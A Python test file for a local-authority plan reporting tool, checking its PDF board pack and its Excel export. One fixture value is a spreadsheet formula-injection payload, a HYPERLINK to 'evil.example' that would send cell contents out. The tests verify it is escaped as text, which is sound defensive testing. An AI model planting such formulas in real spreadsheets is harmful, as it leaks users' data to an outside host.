"""The board pack read back: PDF sections, statuses and counts match the status report; Excel rows and escaping."""

from __future__ import annotations

import io
import json
import re
from datetime import UTC, datetime

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from pypdf import PdfReader

from cyp.board.data import board_data, counts_sentence
from cyp.board.excel import INDICATOR_SHEET_COLUMNS, board_pack_xlsx
from cyp.board.pdf import FONT_DIR, board_pack_pdf
from cyp.bootstrap import initialise_database
from cyp.cli import cli
from cyp.read.charts import status_label
from cyp.read.reports import status_report
from cyp.storage.db import make_engine, read_session, write_session
from cyp.storage.models import Meta
from tests.readside_factory import add_return

QUARTER = "2022-23 Q4"
MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
UNICODE_FONT = (FONT_DIR / "DejaVuSans.ttf").exists()


@pytest.fixture(scope="module")
def pack_db(tmp_path_factory):
    """The real framework and a few returns for one quarter and the one before (so lines can get worse)."""
    url = f"sqlite:///{tmp_path_factory.mktemp('pack') / 'cyp.db'}"
    engine = make_engine(url)
    initialise_database(engine)
    with write_session(engine) as session:
        add_return(session, "family-services", "2022-23 Q3", {"19-FB-1.2": "Green", "19-FB-1.3": "Green"})
        add_return(
            session,
            "family-services",
            QUARTER,
            {
                "19-FB-1.1": ("Blue", "Completed and signed off."),
                "19-FB-1.2": ("Red", "Waiting list for family support doubled since January."),
                "19-FB-1.3": ("Amber", MALICIOUS),
                "19-FB-1.4": ("Green", "@SUM(1+1)"),
                "19-SS-1.1": ("Amber", "-2 staff vacancies; recruitment under way."),
            },
            uploaded_at=datetime(2023, 4, 20, 9, 30, tzinfo=UTC),
            uploaded_by="a.lee",
            values={"19-SS-I1": 42.0},
        )
        session.add(Meta(key="demo", value="test"))
    yield engine, url
    engine.dispose()


@pytest.fixture(scope="module")
def pdf(pack_db):
    engine, _url = pack_db
    with read_session(engine) as session:
        return board_pack_pdf(session, QUARTER)


def pdf_text(content: bytes) -> str:
    reader = PdfReader(io.BytesIO(content))
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


def label(status: str) -> str:
    return status_label(status) if UNICODE_FONT else status


def test_pdf_metadata_outline_and_sections(pdf, pack_db):
    engine, _url = pack_db
    reader = PdfReader(io.BytesIO(pdf))
    assert reader.metadata.title == f"CYP Plan 2019-23 board pack, {QUARTER}"
    assert reader.trailer["/Root"]["/Lang"] == "en-GB"
    with read_session(engine) as session:
        report = status_report(session, QUARTER)
    top_level = [item.title for item in reader.outline if not isinstance(item, list)]
    assert top_level == [
        "Overview",
        *(f"{o['ref']} {o['name']}" for o in report["outcomes"]),
        "Exceptions",
        "Submission status",
    ]
    text = pdf_text(pdf)
    assert "Contents" in text and f"Board pack: {QUARTER}" in text
    assert "Demonstration data" in text  # the demo marker is set in this database


def test_pdf_statuses_and_counts_match_the_status_report_and_the_cli(pdf, pack_db, monkeypatch):
    engine, url = pack_db
    monkeypatch.setenv("CYP_DATABASE_URL", url)
    result = CliRunner().invoke(cli, ["report", "--quarter", QUARTER, "--format", "json"])
    assert result.exit_code == 0, result.output
    report = json.loads(result.output)
    with read_session(engine) as session:
        assert report == status_report(session, QUARTER)
    text = pdf_text(pdf)
    for outcome in report["outcomes"]:
        sentence = f"Overall status: {label(outcome['status'])}. Lines: {counts_sentence(outcome['counts'])}."
        assert sentence in text, outcome["ref"]
    totals: dict[str, int] = {}
    for line in report["lines"]:
        totals[line["status"]] = totals.get(line["status"], 0) + 1
    assert f"All lines in {QUARTER}: {counts_sentence(totals)}." in text
    # FB: one each of Blue, Red, Amber, Green and seven lines with no return, so the rule says "No return".
    fb = next(o for o in report["outcomes"] if o["ref"] == "19-FB")
    assert fb["status"] == "No return" and (fb["counts"]["Red"], fb["counts"]["No return"]) == (1, 7)


def test_pdf_has_commentary_for_red_and_amber_lines_charts_exceptions_and_submissions(pdf):
    text = pdf_text(pdf)
    assert "Waiting list for family support doubled since January." in text  # the Red line
    assert "-2 staff vacancies; recruitment under way." in text  # an Amber line, unescaped in the PDF
    assert "Completed and signed off." not in text  # a Blue line's progress is not commentary
    assert "Red lines (1)" in text and "Worse than last quarter (2)" in text  # 1.2 Green→Red, 1.3 Green→Amber
    assert "Family Services" in text and "a.lee" in text  # the submission status table
    reader = PdfReader(io.BytesIO(pdf))
    images = sum(len(page.images) for page in reader.pages)
    assert images >= 8  # the overview chart and a status chart per outcome (seven), rendered by vl-convert


def test_xlsx_has_every_line_with_context_and_escapes_formulas(pack_db):
    engine, _url = pack_db
    with read_session(engine) as session:
        content = board_pack_xlsx(session, QUARTER)
        data = board_data(session, QUARTER)
    workbook = load_workbook(io.BytesIO(content))
    lines = workbook["Lines"]
    headings = [cell.value for cell in lines[1]]
    rows = [dict(zip(headings, (cell.value for cell in row), strict=True)) for row in lines.iter_rows(min_row=2)]
    assert len(rows) == len(data.lines) == 78
    assert lines.freeze_panes == "A2" and lines.auto_filter.ref == f"A1:T{len(rows) + 1}"
    by_ref = {row["Line ref"]: row for row in rows}
    red = by_ref["19-FB-1.2"]
    assert (red["Plan"], red["Outcome"], red["Objective ref"], red["Status"]) == (
        "2019-23",
        "Family & Belonging",
        "19-FB-1",
        "Red",
    )
    assert (red["Version"], red["Submitted by"], red["Reported by team"]) == (1, "a.lee", "Family Services")
    assert red["Submitted at (UTC)"] == datetime(2023, 4, 20, 9, 30)
    assert red["Last quarter"] == "Green"
    assert by_ref["19-HW-1.1"]["Status"] == "No return"
    # Text that a spreadsheet would run as a formula is a text cell, exactly as typed (no leading quote).
    assert by_ref["19-FB-1.3"]["Progress"] == MALICIOUS
    assert by_ref["19-FB-1.4"]["Progress"] == "@SUM(1+1)"
    assert by_ref["19-SS-1.1"]["Progress"] == "-2 staff vacancies; recruitment under way."
    for row in lines.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)
        assert all(cell.data_type == "s" for cell in row if isinstance(cell.value, str))
    indicators = workbook["Indicators"]
    values = [
        dict(zip(INDICATOR_SHEET_COLUMNS, (c.value for c in row), strict=True))
        for row in indicators.iter_rows(min_row=2)
    ]
    assert [(v["Indicator ref"], v["Value"], v["Outcome"], v["Submitted by"]) for v in values] == [
        ("19-SS-I1", 42.0, "Safe & Secure", "a.lee")
    ]


def test_export_command_writes_excel_and_refuses_other_extensions(pack_db, monkeypatch, tmp_path):
    _engine, url = pack_db
    monkeypatch.setenv("CYP_DATABASE_URL", url)
    out = tmp_path / "data.xlsx"
    result = CliRunner().invoke(cli, ["export", "--quarter", "Jan-Mar 2023", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert re.match(r"Wrote .*data\.xlsx \([\d,]+ bytes\)\.", result.output)
    assert load_workbook(out)["Lines"].max_row == 79
    bad = CliRunner().invoke(cli, ["export", "--quarter", QUARTER, "--out", str(tmp_path / "pack.docx")])
    assert bad.exit_code == 2 and "must end in .pdf or .xlsx" in bad.output
    unknown = CliRunner().invoke(cli, ["export", "--quarter", QUARTER, "--out", str(out), "--plan", "nope"])
    assert unknown.exit_code == 1 and "There is no plan 'nope'" in unknown.output
